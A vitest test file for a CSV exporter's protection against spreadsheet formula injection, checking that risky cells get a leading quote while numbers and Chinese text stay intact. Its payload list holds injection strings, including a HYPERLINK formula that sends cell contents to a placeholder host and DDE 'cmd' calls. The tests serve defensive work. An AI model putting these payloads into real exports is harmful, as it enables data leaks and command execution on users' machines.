/**
 * Spreadsheet-safe CSV (OWASP "CSV injection"): a cell that starts with = + - @, tab or CR is
 * prefixed with ' in every CSV the tool writes; numbers stay numbers.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { gridToCsv, spreadsheetSafe } from '../../src/report/formats/csv.js';
import { ROOT, makeTmp, runCli } from '../e2e/run-cli.js';
import { parseCsv } from './csv-read.js';

const PAYLOADS = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|\' /C notepad\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '-',
  '+',
];

/** What a spreadsheet could evaluate: the first character (after blanks) is a formula trigger. */
const LIVE = /^[\t\r]|^\s*[=+\-@]/;
const NUMBER = /^[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$/;

describe('spreadsheetSafe', () => {
  it.each(PAYLOADS)('neutralises %j with a leading quote and keeps the text', (payload) => {
    expect(spreadsheetSafe(payload)).toBe(`'${payload}`);
  });

  it.each(['-3', '+4', '12.5', '-0.25', '1e-7', '98', '0'])('keeps the number %s a number', (n) => {
    expect(spreadsheetSafe(n)).toBe(n);
  });

  it.each(['河西镇', 'a=b', '共受理12件', '', "'already quoted", '3-5件'])('leaves the text %j alone', (s) => {
    expect(spreadsheetSafe(s)).toBe(s);
  });

  it('applies to every cell of a grid, header included', () => {
    const csv = gridToCsv([['=A1', 'x'], ['@B2', '-7']]);
    expect(parseCsv(csv.slice(1))).toEqual([["'=A1", 'x'], ["'@B2", '-7']]);
  });
});

describe('tables: no CSV cell starts a formula (end to end)', () => {
  const tmp = makeTmp('zhibiao-csv-');
  afterAll(() => tmp.cleanup());

  it('file names, headings and sentences holding payloads come out quoted', async () => {
    const dir = join(tmp.dir, 'in');
    mkdirSync(dir);
    const name = "=HYPERLINK(\"x.invalid\",\"报告\")+cmd|' C calc'!A0.txt";
    writeFileSync(
      join(dir, name),
      [
        '=cmd|\' /C calc\'!A0人民政府2023年法治政府建设情况报告',
        '',
        '一、+cmd|\' /C notepad\'!A0',
        '@SUM(1+1)全年共受理行政复议案件12件，办结11件。',
        '-2+3调解矛盾纠纷30起，调解成功率达95%。',
      ].join('\n'),
    );
    const db = join(tmp.dir, 'i.db');
    const out = join(tmp.dir, 'out');
    const ingest = await runCli(['ingest', name, '--db', db, '--rules', join(ROOT, 'rules'), '--no-progress'], { cwd: dir });
    expect(ingest.code, ingest.stderr).toBe(0);
    const tables = await runCli(['tables', '--db', db, '--out', out, '--format', 'csv']);
    expect(tables.code, tables.stderr).toBe(0);
    let checked = 0;
    const neutralised: string[] = [];
    for (const file of ['indicators.csv', 'indicator_values.csv']) {
      const rows = parseCsv(readFileSync(join(out, file), 'utf8').slice(1));
      expect(rows.length).toBeGreaterThan(1);
      for (const cell of rows.flat()) {
        checked++;
        if (NUMBER.test(cell)) continue;
        expect(cell, `${file}: ${JSON.stringify(cell)}`).not.toMatch(LIVE);
        if (cell.startsWith("'")) neutralised.push(cell.slice(1));
      }
    }
    expect(checked).toBeGreaterThan(20);
    // the payloads are there, as text: the file name and the sentences that start with one
    expect(neutralised).toContain(name);
    expect(neutralised.some((c) => c.startsWith('@SUM(1+1)全年共受理行政复议案件12件'))).toBe(true);
    expect(neutralised.some((c) => c.startsWith('-2+3调解矛盾纠纷30起'))).toBe(true);
  });
});
